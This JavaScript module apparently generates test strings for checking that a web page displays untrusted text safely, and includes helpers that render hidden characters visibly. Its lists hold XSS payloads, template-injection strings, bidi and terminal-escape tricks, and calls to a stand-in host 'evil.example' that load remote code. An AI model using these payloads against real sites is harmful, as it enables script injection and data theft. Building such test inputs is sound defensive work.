// Texts that would run, load, hide or break something if a page took them for anything but text.

const CALL = '//evil.example/x'

/** What might run or load, for each thing that a page might do with a text. */
const CODE = ['alert(1)', `fetch('${CALL}')`, `location='${CALL}'`, 'document.write(1)', `import('${CALL}')`, 'print()']

/** Markup around code. */
const MARKUP = [
    (code) => `<script>${code}</script>`,
    (code) => `<script src=${CALL}>${code}</script>`,
    (code) => `<img src=${CALL} onerror="${code}">`,
    (code) => `<img srcset="${CALL} 2x" onload=${code}>`,
    (code) => `<svg/onload="${code}">`,
    (code) => `<svg><script href="${CALL}"/>${code}</svg>`,
    (code) => `<svg><a href="javascript:${code}"><text y=9>x</text></a></svg>`,
    (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
    (code) => `<svg><use href="${CALL}#x"/></svg>`,
    (code) => `<math><mtext><mglyph><style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
    (code) => `<iframe src="javascript:${code}"></iframe>`,
    (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
    () => `<object data="${CALL}"></object><embed src="${CALL}">`,
    (code) => `<video><source onerror="${code}"></video>`,
    (code) => `<audio src=${CALL} autoplay onerror="${code}">`,
    (code) => `<details open ontoggle="${code}">x</details>`,
    (code) => `<input autofocus onfocus="${code}">`,
    (code) => `<body onload="${code}" onpageshow="${code}">`,
    (code) => `<a href="javascript:${code}" accesskey=x>x</a>`,
    (code) => `<a href="data:text/html,<script>${code}</script>" autofocus>x</a>`,
    () => `<form action=${CALL}><button autofocus>x</button></form>`,
    () => `<base href=${CALL}/>`,
    () => `<meta http-equiv=refresh content="0;url=${CALL}">`,
    () => `<link rel=stylesheet href=${CALL}><link rel=prefetch href=${CALL}>`,
    () => `<style>@import "${CALL}"; * { background: url(${CALL}) }</style>`,
    () => `<p style="background: url(${CALL})">x</p>`,
    () => `<table background=${CALL}><td>x</table>`,
    (code) => `<template><script>${code}</script></template>`,
    (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
    (code) => `<div popover id=p onbeforetoggle=${code}></div><button popovertarget=p>x</button>`,
    () => '<plaintext>',
    () => '<!--',
    (code) => `<![CDATA[<img src=x onerror=${code}>]]>`,
    (code) => `<?xml-stylesheet href="javascript:${code}"?>`,
    (code) => ` onmouseover=${code} style=x `,
    (code) => `javascript:${code}`,
    (code) => `{{ ${code} }}\${${code}}#{${code}}<%= ${code} %>`,
]

/** What might end the place that a text is in. */
const BREAKS = [
    '', '"', "'", '">', "'>", '`>', '</pre>', '</title>', '</textarea>', '</option></select>', '</style>', '</script>',
    '-->', '</td></tr></table>', '</svg>', '</code></p></main>', '\n', '\r\n', '\0', '\\"', '\u2028', '&quot;>',
]

const each = (text, change) => [...text].map(change).join('')
const point = (character) => character.codePointAt(0)

/** How a text might be written so that it is markup only to some readers. */
const ENCODINGS = [
    (text) => text,
    (text) => text.toUpperCase(),
    (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
    (text) => each(text, (one) => (/[<>"'&]/.test(one) ? `&#${point(one)};` : one)),
    (text) => each(text, (one) => (/[<>"'&]/.test(one) ? `&#x${point(one).toString(16)}` : one)),
    (text) => text.replace(/&/g, '&amp;amp;').replace(/</g, '&amp;lt;'),
    (text) => encodeURIComponent(text),
    (text) => text.replace(/</g, '\\u003c').replace(/"/g, '\\u0022'),
    (text) => text.replace(/</g, '\\x3c').replace(/>/g, '\\x3e'),
    (text) => text.replace(/</g, '＜').replace(/>/g, '＞'),
    (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
    (text) => text.replace(/(\w{3})/g, '$1\0'),
    (text) => text.replace(/[ :/]/g, '\t$&\n'),
    (text) => text.replace(/(\w\w)/g, '$1\u200b'),
    (text) => `\u202e${[...text].reverse().join('')}\u202c${text}`,
    (text) => `\u2066${text}\u2069\u061c\u200e`,
    (text) => `\u001b[2J\u001b]0;${text}\u0007\u009b31m`,
    (text) => `\u001b]8;;http:${CALL}\u001b\\${text}\u001b]8;;\u001b\\`,
    (text) => each(text, (one) => one + '\u0301\u0489'),
    (text) => `${text.slice(0, 9)}\u{e0041}\u{e007f}${text.slice(9)}\ufeff`,
]

/** Texts of their own, which no rule above makes. */
const SINGLE = [
    ' ', '0', 'null', 'false', '[]', '{}', '""', 'NaN', '-0', '1e999', '__proto__', 'constructor', 'undefined', '%s%n', '../..',
    '..%2f..%2f', 'a?b#c', ';', '\\', '\\\\', '\u0000', '\u007f', '\u0085', '\u00ad', '\u180e', '\u2028\u2029', '\ufff9x\ufffa\ufffb',
    '\uffff', '\u{1fffe}', '\u{10ffff}', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u05d0\u05d1 abc \u05d2', '\u0627\u0644', 'ﷺ'.repeat(99),
    '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069', 'i\u0307', 'ß'.repeat(9), '\n\n\nx', '\tx\t', '\rx', 'x\n', ' x ',
    '\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f', '&', '&amp', '&lt', '&#0;', '&#x110000;', '&NewLine;', '<', '>', "'", '"', '`',
    'w'.repeat(20_000), 'w '.repeat(20_000), '\u202e'.repeat(5_000), '<'.repeat(17_000), '\0'.repeat(3_000), '\u{1f4a3}'.repeat(9_000),
]

/** So many texts, always the same ones. */
export function texts(count) {
    const made = [...SINGLE]
    for (let n = 0; made.length < count; n += 1) {
        const code = CODE[n % CODE.length]
        const markup = MARKUP[n % MARKUP.length](code)
        const broken = BREAKS[(n * 7 + Math.floor(n / MARKUP.length)) % BREAKS.length] + markup
        made.push(ENCODINGS[(n * 3 + Math.floor(n / BREAKS.length)) % ENCODINGS.length](broken))
    }
    return made.slice(0, count)
}

/** Words of nearly 1 MiB. */
export const HUGE = ['w'.repeat(1_000_000), '<img src=x onerror=alert(1)>'.repeat(35_000), '\u202e'.repeat(160_000)]

const HIDDEN =
    /[\p{Cc}\u{ad}\u{61c}\u{180e}\u{200b}-\u{200f}\u{2028}-\u{202e}\u{2060}-\u{206f}\u{feff}\u{fff9}-\u{fffb}\u{e0000}-\u{e007f}]/u

/** A text as pages show it: what one cannot see is its code point. */
export function shown(text) {
    return each(text, (one) => (HIDDEN.test(one) && one !== '\n' && one !== '\t' ? `\\u{${point(one).toString(16)}}` : one))
}

/** The most characters of a value on a page. */
const MOST = 16 * 1024

/** The beginning of a long text, as pages show it. */
export function shownBeginning(text) {
    return shown([...text].slice(0, MOST).join(''))
}

/** A value as JSON, as pages show it. */
export function shownJson(value) {
    return shownBeginning(JSON.stringify(value, null, 2))
}

const isObject = (value) => typeof value === 'object' && value !== null
const bytes = (text) => Buffer.byteLength(text)

/** The names and the values of a value as the page of a step shows it: as a tree, texts as text. */
function shownTree(value, level = 0) {
    const json = JSON.stringify(value)
    const isShort = bytes(json) <= 60
    if (isObject(value) && level < 6 && bytes(json) > 2 && (level === 0 || !isShort)) {
        return Object.entries(value).flatMap(([name, below]) => [shown(name), ...shownTree(below, level + 1)])
    }
    const isText = typeof value === 'string' && (!isShort || json.includes('\\'))
    const text = isText ? value : json
    return [shownBeginning(text) + ([...text].length > MOST ? '…' : '')]
}

/** What the page of a step shows of its output: each field has room of its own. */
export function shownFields(output) {
    const isWithFields = isObject(output) && !Array.isArray(output) && Object.keys(output).length > 0
    if (!isWithFields) return shownValue(output)
    return Object.entries(output).flatMap(([name, value]) => [shown(name), ...shownValue(value)])
}

/** What a page shows of a value, unless it is a long one of several parts, which share their room. */
export function shownValue(value) {
    return isObject(value) && JSON.stringify(value).length > MOST / 2 ? [] : shownTree(value)
}

/** A recorded frame as JSON: what one cannot see is an escape of JSON, but for what joins emoji. */
export function shownFrame(frame) {
    const escape = (one) => [...Array(one.length).keys()].map((n) => `\\u${one.charCodeAt(n).toString(16).padStart(4, '0')}`).join('')
    const isKept = (one) => one === '\n' || one === '\u200d' || !HIDDEN.test(one)
    return shownBeginning(each(JSON.stringify(frame, null, 2), (one) => (isKept(one) ? one : escape(one))))
}

/** The arguments of a call, as people see them before they decide: a text of several lines in lines of its own. */
export function shownArguments(given) {
    const isLong = (value) => typeof value === 'string' && value.includes('\n')
    if (!Object.values(given).some(isLong)) return shownBeginning(JSON.stringify(given))
    const lines = Object.entries(given).map(([name, value]) => {
        if (isLong(value)) return [`${name}:`, ...value.split('\n').map((line) => `  ${line}`)].join('\n')
        return `${name}: ${typeof value === 'string' ? value : JSON.stringify(value)}`
    })
    return shownBeginning(lines.join('\n'))
}
